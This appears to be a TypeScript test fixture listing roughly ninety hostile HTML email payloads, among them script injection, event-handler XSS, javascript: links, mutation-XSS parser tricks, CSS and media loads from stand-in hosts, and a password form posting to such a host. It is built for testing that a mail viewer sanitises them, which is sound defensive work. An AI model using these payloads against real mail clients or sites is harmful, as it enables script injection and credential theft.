/** HTML of a mail that tries to run, load, send or cover something where it is shown. */
export interface Trick {
  /** What it tries; ASCII, so that it can be the mail's subject. */
  name: string;
  html: string;
}

/** Run by any of the tricks, it leaves this mark in the window it came to, and in the one around all. */
export const MARK = 'pwned';
const RUN = `top.${MARK}=self.${MARK}=1`;

/** Hosts that no browser may ask for anything: all end like this. */
export const HOSTILE_HOSTS = '.hostile.example';
const at = (host: string): string => `https://${host}${HOSTILE_HOSTS}`;

/** In most of the tricks, to tell in which document they ended up. */
export const TRACE = 'from a mail';
const trace = `<i title="${TRACE}">trace</i>`;

const SCRIPTS: Record<string, string> = {
  script: `<script>${RUN}</script>`,
  'script from elsewhere': `<script src="${at('script')}/x.js"></script>`,
  'script in upper case': `<SCRIPT>${RUN}</SCRIPT>`,
  'script cut in two': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'script without an end': `<script>${RUN}//`,
  'script after a slash': `<script/x>${RUN}</script>`,
  'script of data': `<script src="data:text/javascript,${RUN}"></script>`,
  'module script': `<script type="module">import "${at('module')}/x.js"</script>`,
  'script in a comment that ends early': `<!--><script>${RUN}</script>-->`,
  'script in a conditional comment': `<!--[if true]><script>${RUN}</script><![endif]-->`,
  'script in CDATA': `<![CDATA[<script>${RUN}</script>]]>`,
  'script in a template': `<template><script>${RUN}</script><img src=x onerror="${RUN}"></template>`,
  'script in a shadow tree': `<div><template shadowrootmode="open"><script>${RUN}</script><img src=x onerror="${RUN}"></template></div>`,
};

const HANDLERS: Record<string, string> = {
  'img onerror': `<img src="x" onerror="${RUN}">`,
  'img onerror without quotes': `<img src=x onerror=${RUN}>`,
  'img onerror after a slash': `<img/src="x"/onerror="${RUN}">`,
  'img onerror in upper case': `<IMG SRC="x" ONERROR="${RUN}">`,
  'img onload of its own picture': `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="${RUN}">`,
  'img with a quote in its title': `<img title='"><img src=x onerror=${RUN}>'>`,
  'handler with a control character': `<img src="x" on\u0001error="${RUN}" onerror\u000B="${RUN}">`,
  'body onload': `<body onload="${RUN}"><p>body</p></body>`,
  'svg onload': `<svg onload="${RUN}"></svg>`,
  'svg onload without quotes': `<svg/onload=${RUN}>`,
  'details ontoggle': `<details open ontoggle="${RUN}"><summary>more</summary>text</details>`,
  'input autofocus': `<input autofocus onfocus="${RUN}">`,
  'tabindex autofocus': `<p tabindex="1" autofocus onfocus="${RUN}">focus</p>`,
  'video onerror': `<video><source onerror="${RUN}"></video><audio src="x" onerror="${RUN}"></audio>`,
  'marquee onstart': `<marquee onstart="${RUN}">text</marquee>`,
  onanimationstart: `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${RUN}">text</p>`,
  oncontentvisibilityautostatechange: `<p style="content-visibility:auto" oncontentvisibilityautostatechange="${RUN}">text</p>`,
};

const STYLES: Record<string, string> = {
  'style element with @import': `<style>@import url("${at('import')}/x.css"); @font-face{font-family:x;src:url("${at('font')}/x.woff2")} *{font-family:x}</style>`,
  'style element with a background': `<style>body{background:url("${at('background')}/x.png")}</style>`,
  'style attribute with url()': `<p style="background:url('${at('style')}/x.png')">text</p>`,
  'style attribute with an escaped url()': `<p style="background:\\75rl('${at('escaped')}/x.png')">text</p>`,
  'style attribute with image-set()': `<p style="background-image:image-set('${at('imageset')}/x.png' 1x)">text</p>`,
  'style with expression()': `<p style="width:expression(${RUN});-moz-binding:url('${at('binding')}/x.xml#x')">text</p>`,
  'style that covers the page': `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:#f00">cover</div>`,
  'style that leaves its place': `<p style="margin:-3000px;position:absolute;transform:scale(99)">text</p>`,
  'link to a style sheet': `<link rel="stylesheet" href="${at('sheet')}/x.css">`,
  'link that asks ahead': `<link rel="prefetch" href="${at('prefetch')}/x"><link rel="preload" as="image" href="${at('preload')}/x.png"><link rel="icon" href="${at('icon')}/x.ico">`,
  'old background attributes': `<table background="${at('table')}/x.png"><tr><td background="${at('cell')}/x.png">cell</td></tr></table>`,
};

const LOADS: Record<string, string> = {
  'remote picture': `<img src="${at('picture')}/x.png">`,
  'remote picture without a scheme': `<img src="//noscheme${HOSTILE_HOSTS}/x.png">`,
  srcset: `<img srcset="${at('srcset')}/x.png 1x" sizes="1px"><picture><source srcset="${at('source')}/x.png"><img></picture>`,
  'picture that loads late': `<img loading="lazy" lowsrc="${at('lowsrc')}/x.png" dynsrc="${at('dynsrc')}/x" src="${at('lazy')}/x.png">`,
  'svg as a picture': `<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'%3E%3Cimage href='${at('svgimage')}/x.png'/%3E%3C/svg%3E">`,
  'svg use': `<svg><use href="${at('use')}/x.svg#x"></use><image href="${at('image')}/x.png"></image></svg>`,
  'svg script': `<svg><script>${RUN}</script><script href="${at('svgscript')}/x.js"></script></svg>`,
  'svg animation of a link': `<svg><a><animate attributeName="href" values="javascript:${RUN}" /><text y="20">click</text></a></svg>`,
  'svg foreignObject': `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  'math link': `<math href="javascript:${RUN}"><mi xlink:href="javascript:${RUN}">click</mi></math>`,
  iframe: `<iframe src="${at('frame')}/"></iframe>`,
  'iframe with script': `<iframe src="javascript:${RUN}"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  'object and embed': `<object data="${at('object')}/x.swf"></object><embed src="${at('embed')}/x.swf"><object data="data:text/html,<script>${RUN}</script>"></object>`,
  'applet and frameset': `<applet code="x" archive="${at('applet')}/x.jar"></applet><frameset><frame src="${at('frameset')}/"></frameset>`,
  media: `<video src="${at('video')}/x.mp4" poster="${at('poster')}/x.png" autoplay></video><audio src="${at('audio')}/x.mp3" autoplay></audio>`,
  'input picture': `<input type="image" src="${at('input')}/x.png">`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${at('refresh')}/">`,
  'meta refresh to script': `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  'meta that loosens the policy': `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${at('policy')}/x.png">`,
  base: `<base href="${at('base')}/" target="_top"><img src="x.png"><a href="y">link</a>`,
};

const FORMS: Record<string, string> = {
  form: `<form action="${at('form')}/"><input name="password"><button>Log in</button></form>`,
  'form that sends itself': `<form id="f" action="${at('sends')}/"></form><input form="f" type="submit" autofocus onfocus="f.submit()">`,
  'form with script': `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}">Go</button></form>`,
  'names that hide what is there': `<img name="cookie"><form name="getElementById"><input name="parentNode"></form><a id="top">x</a>`,
};

const LINKS: Record<string, string> = {
  'javascript link': `<a href="javascript:${RUN}">click</a>`,
  'javascript link to the top': `<a href="javascript:${RUN}" target="_top">click</a>`,
  'javascript link with entities': `<a href="&#106;&#x61;vascript&colon;${RUN}">click</a>`,
  'javascript link with white space': `<a href=" \tjava\nscript:${RUN}">click</a>`,
  'javascript link with control characters': `<a href="\u0001java\u0009script:${RUN}">click</a>`,
  'javascript link with encoded tab': `<a href="jav&#x09;ascript:${RUN}">click</a>`,
  'vbscript link': `<a href="vbscript:msgbox(1)">click</a>`,
  'data link': `<a href="data:text/html,<script>${RUN}</script>">click</a>`,
  'data link in base64': `<a href="data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduZWQ9MTwvc2NyaXB0Pg==">click</a>`,
  'blob and file links': `<a href="blob:null/x">click</a><a href="file:///etc/passwd">click</a>`,
  'link into the page around': `<a href="/admin/logout" target="_top">click</a><a href="#top" target="_parent">click</a>`,
  'link that pings': `<a href="#" ping="${at('ping')}/">click</a>`,
  'area of a map': `<img usemap="#m" width="9" height="9"><map name="m"><area href="javascript:${RUN}" coords="0,0,9,9"></map>`,
};

/** HTML that means one thing when it is read and another when it is read again. */
const MUTATIONS: Record<string, string> = {
  'noscript with a title': `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  'mglyph and style': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  'form in form in math': `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  'svg style with a comment': `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  'math annotation': `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  'title in svg': `<svg><title><style><!--</style><img src=x onerror="${RUN}">--></title></svg>`,
  'textarea that closes': `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  'xmp that closes': `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  'noembed and noframes': `<noembed><p title="</noembed><img src=x onerror=${RUN}>"><noframes><p title="</noframes><img src=x onerror=${RUN}>">`,
  'select that throws out': `<select><template><style><!--</template><a rel="--></style></select><img src=x onerror=${RUN}>">`,
  'comment that ends early': `<!--!> <img src=x onerror=${RUN}> --!> <img src=x onerror=${RUN}>`,
  'processing instruction': `<?xml version="1.0"?><?x ><img src=x onerror=${RUN}>?>`,
  plaintext: `<plaintext><img src=x onerror=${RUN}>`,
  'entities that are read twice': `<p>&amp;lt;img src=x onerror=${RUN}&amp;gt; &lt;script&gt;${RUN}&lt;/script&gt;</p>`,
  'attribute that closes the frame': `<p title="&quot;></iframe><img src=x onerror=${RUN}>">"></iframe></body></html><script>${RUN}</script>`,
  'nesting without end': '<div>'.repeat(300) + `<img src=x onerror=${RUN}>`,
};

/** Each on its own: one that swallows the rest of a mail must not make the others harmless. */
export const TRICKS: readonly Trick[] = Object.entries({
  ...SCRIPTS,
  ...HANDLERS,
  ...STYLES,
  ...LOADS,
  ...FORMS,
  ...LINKS,
  ...MUTATIONS,
}).map(([name, html]) => ({ name, html: `<p>${trace}</p>${html}<p>${trace}</p>` }));
